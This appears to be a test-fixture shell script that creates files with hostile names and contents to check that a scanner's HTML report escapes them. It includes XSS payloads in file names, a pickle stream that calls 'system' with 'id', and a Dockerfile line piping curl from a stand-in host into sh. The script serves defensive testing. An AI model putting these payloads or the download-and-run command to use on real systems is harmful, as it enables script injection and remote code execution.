# File names and contents that try to break out of the HTML report (and the
# other outputs): markup, quotes, ampersands, bytes that are not UTF-8, a
# right-to-left override. Made here because git cannot carry some of them.
set -e
code='import pickle
def f(x):
    return pickle.loads(x)
'
printf '%s' "$code" >'<img src=x onerror=alert(1)>.py'
printf '%s' "$code" >'a&b "quoted" '\''single'\''.py'
printf '%s' "$code" >"$(printf 'bad\377\376name.py')"
printf '%s' "$code" >"$(printf 'evil\342\200\256gnp.py')"
mkdir -p '</td></tr><script>alert(2)</script>'
printf '%s' "$code" >'</td></tr><script>alert(2)</script>/serve.py'
# a pickle whose import names carry markup: a property of a binary artifact
printf 'c<script>&"x\nsystem\n(S'\''id'\''\ntR.' >'weights<b>.pkl'
printf 'FROM evil.example/<i>img</i>:latest\nRUN curl -sSL "https://x.example/?a=1&b=<script>" | sh\n' >Dockerfile
printf 'requests>=2\n' >'requirements&<x>.txt'
